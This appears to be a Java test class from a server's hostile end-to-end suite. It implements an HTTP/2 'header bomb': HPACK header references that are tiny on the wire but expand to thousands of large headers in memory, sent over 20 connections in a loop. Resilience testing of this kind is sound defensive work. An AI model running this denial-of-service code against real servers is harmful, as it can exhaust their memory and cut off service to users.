package io.jview.e2e.hostile.attack;

import io.jview.e2e.hostile.wire.Http2;
import java.io.ByteArrayOutputStream;

/** Requests over HTTP/2 whose headers are a byte each on the wire, and thousands in memory. */
public record HeaderBomb() implements Attack {

  private static final int CONNECTIONS = 20;
  private static final int REFERENCES = 12_000;

  @Override
  public String name() {
    return "HTTP/2 headers that inflate";
  }

  @Override
  public void begin(Attacker attacker) {
    attacker.each(
        CONNECTIONS,
        wire -> {
          wire.send(Http2.preface());
          Thread.ofVirtual().name("e2e-attack-reader").start(wire::drainQuietly);
          for (int stream = 1; attacker.goesOn(); stream += 2) {
            ByteArrayOutputStream head = new ByteArrayOutputStream();
            head.writeBytes(Http2.head("GET", wire.host(), "/big"));
            head.writeBytes(Http2.remembered("x", "y".repeat(3_900)));
            for (int i = 0; i < REFERENCES; i++) {
              head.write(Http2.newest());
            }
            wire.send(
                Http2.frame(
                    Http2.HEADERS,
                    Http2.END_HEADERS | Http2.END_STREAM,
                    stream,
                    head.toByteArray()));
          }
        });
  }
}
